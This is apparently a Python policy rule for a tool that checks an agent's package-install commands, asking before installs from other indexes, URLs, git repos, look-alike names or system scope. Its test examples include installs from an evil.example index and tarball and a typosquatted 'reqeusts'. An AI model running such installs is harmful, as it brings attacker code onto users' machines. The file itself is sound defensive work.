"""Packages from elsewhere, unchecked, look-alike, global, or for the whole system.

Why
    An install runs the package's code; a name one letter off, another index or a bare URL is how malware comes in.
Instead
    Install by name or lock file from the default registry, into the project.
Blind spots
    Malware under a name of its own.
"""

from enactd.policy import Ask, Context, InstallPackage, Opinions, policy, tool


@policy(
    watches=InstallPackage,
    severity="high",
    stage="stable",
    since="0.1",
    incidents=("PI-02",),
    asks=(
        "pip install --index-url http://evil.example/simple x",
        "npm install https://evil.example/x.tgz",
        "pip install git+https://github.com/x/y",
        "sudo apt-get install -y nginx",
        "npm install -g some-tool",
        "npm install chalk-improved",
        "pip install reqeusts",
        "pip install --trusted-host evil.example x",
        tool("mcp__shell__execute_command", command="pip install reqeusts"),
        "python3 -c \"import subprocess; subprocess.run(['pip', 'install', 'git+https://github.com/x/y'])\"",
    ),
    allows=(
        "npm install",
        "npm install --save-dev vitest",
        "pip install -r requirements.txt",
        "pip install -e .",
        "cargo add serde",
        "uv sync",
        tool("mcp__shell__execute_command", command="npm install"),
        "python3 -c \"import subprocess; subprocess.run(['pip', 'install', '-r', 'requirements.txt'])\"",
    ),
    misses=("npm install a-name-that-nobody-has-heard-of",),
)
def check(install: InstallPackage, context: Context) -> Opinions:
    names = ", ".join(install.names[:3]) or "packages"
    if install.origin in ("url", "git", "index"):
        words = {"url": "an address", "git": "a repository", "index": "another index"}[install.origin]
        yield Ask(f"{names} would come from {words}", "install by name from the default registry")
    if install.unchecked:
        yield Ask(f"`{install.manager}` would not check what it gets")
    if install.lookalike:
        yield Ask(f"`{names}` looks like `{install.lookalike}` and is another package")
    if install.scope == "system":
        yield Ask(f"{names} would be installed for the whole machine")
    if (
        install.runs
        and not install.lookalike
        and install.origin == "registry"
        and context.setting("ask_unknown_tools", False)
    ):
        yield Ask(f"{names} would be downloaded and run")
